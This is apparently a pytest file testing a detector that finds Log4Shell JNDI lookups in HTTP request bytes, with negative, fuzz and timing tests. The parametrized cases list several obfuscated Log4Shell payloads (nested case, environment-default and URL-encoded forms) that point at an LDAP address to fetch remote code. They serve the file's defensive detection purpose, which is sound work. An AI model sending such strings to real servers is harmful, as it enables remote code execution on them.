"""Log4Shell is found behind the lookups that hide it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from honeyguide.streams.log4shell import find_lookup


@pytest.mark.parametrize(
    "text",
    [
        b"${jndi:ldap://192.0.2.7/a}",
        b"${${lower:j}${lower:n}${lower:d}i:ldap://192.0.2.7/a}",
        b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.7/a}",
        b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.7/a}",
        b"${${upper:${lower:j}}ndi:ldap://192.0.2.7/a}",
        b"$%7Bjndi:ldap://192.0.2.7/a%7D",
        b"%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.7%2Fa%7D",
        b"%2524%257Bjndi:ldap://192.0.2.7/a%257D".replace(b"%25", b"%"),
    ],
)
def test_a_lookup_is_found_with_its_target_and_place(text: bytes) -> None:
    data = b"GET /?x=" + text + b" HTTP/1.1\r\n\r\n"
    found = find_lookup(data)
    assert found is not None
    assert found.target.lower().startswith("ldap://192.0.2.7/a")
    assert data[found.start :].startswith(text[:1])
    assert found.start == 8


@pytest.mark.parametrize("text", [b"", b"${date:yyyy}", b"${HOME}/jndi:ldap", b"jndi:ldap://x", b"${${lower:x}}", b"$" * 500, b"${" * 500])
def test_other_text_is_no_lookup(text: bytes) -> None:
    assert find_lookup(text) is None


@given(st.binary(max_size=300))
def test_any_bytes_are_searched_without_an_error(data: bytes) -> None:
    find_lookup(b"${" + data)


def test_deep_nesting_takes_bounded_time() -> None:
    started = time.process_time()
    find_lookup(b"${lower:" * 200_000 + b"}" * 200_000)
    assert time.process_time() - started < 2
